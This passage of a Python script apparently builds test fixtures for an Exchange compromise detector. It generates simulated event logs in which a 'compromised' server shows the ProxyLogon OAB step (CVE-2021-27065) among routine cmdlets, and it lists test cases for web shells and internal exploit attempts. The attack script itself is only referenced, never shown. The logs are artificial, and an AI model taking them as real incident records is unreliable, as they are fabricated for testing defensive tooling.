    "iis-shell-commands", "iis-shell-commands-near", "iis-known-shell-name",
    "iis-known-shell-name-near", "iis-shell-used", "iis-shell-used-near", "iis-fields-change", "iis-date-dash",
    "iis-scanner-noise", "iis-internal-attempt", "iis-internal-exploit", "timeline-text",
    "busy-server-text",
    "paths-nested",
]


def clean_outputs():
    for rel in ("examples/compromised", "examples/clean", "examples/exposed"):
        shutil.rmtree(REPO / rel, ignore_errors=True)
    for name in E2E_OWNED:
        shutil.rmtree(REPO / E2E / name / "input", ignore_errors=True)
        for f in ["args"] + E2E_EXTRA.get(name, []):
            a = REPO / E2E / name / f
            if a.exists():
                a.unlink()


def gen_examples_evtx():
    """Event logs of the two example servers, written by make_evtx.py: the compromised
    one's MSExchange Management log holds the ProxyLogon OAB step (CVE-2021-27065)
    among everyday cmdlets; the clean one's only everyday cmdlets."""
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    import make_evtx as mx
    comp = mx.benign_mgmt("2021-03-02", n=4) + [
        mx.cmdlet_event("2021-03-03T02:13:58.8312090Z", "Set-OabVirtualDirectory", mx.OAB_SCRIPT,
                        app=mx.ECP_APP, proc=mx.ECP_PROC, duration="00:00:00.2343750"),
        mx.cmdlet_event("2021-03-03T02:14:07.1250000Z", "Get-OabVirtualDirectory",
                        '-Identity "OAB (Default Web Site)"', app=mx.ECP_APP, proc=mx.ECP_PROC),
    ]
    def clean(day1, day2):
        return mx.benign_mgmt(day1, n=4) + [
            mx.cmdlet_event(day2 + "T10:13:58.8312090Z", "Set-OabVirtualDirectory", mx.OAB_BENIGN,
                            app=mx.ECP_APP, proc=mx.ECP_PROC),
        ]
    for root, events in (("examples/compromised", comp),
                         ("examples/exposed", clean("2023-01-09", "2023-01-10")),
                         ("examples/clean", clean("2026-09-09", "2026-09-10"))):
        write(root + "/" + mx.MGMT, mx.evtx_bytes(events)[0])


def main():
    clean_outputs()
    gen_compromised()
    gen_clean("examples/exposed", BUILD_PATCHED, 2023, "01")
    gen_clean("examples/clean", BUILD_CURRENT, 2026, "09")
    gen_examples_evtx()
    gen_e2e()
    gen_e2e_files()
    gen_e2e_iis()
    assert set(E2E_EXTRA) <= set(CASES)
    assert CASES == E2E_OWNED, "update E2E_OWNED to match the cases defined"
    total = sum(n for _, n in WRITTEN)
    print("make_fixtures: wrote %d files (%d bytes), %d e2e cases" % (len(WRITTEN), total,
                                                                      len(CASES)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
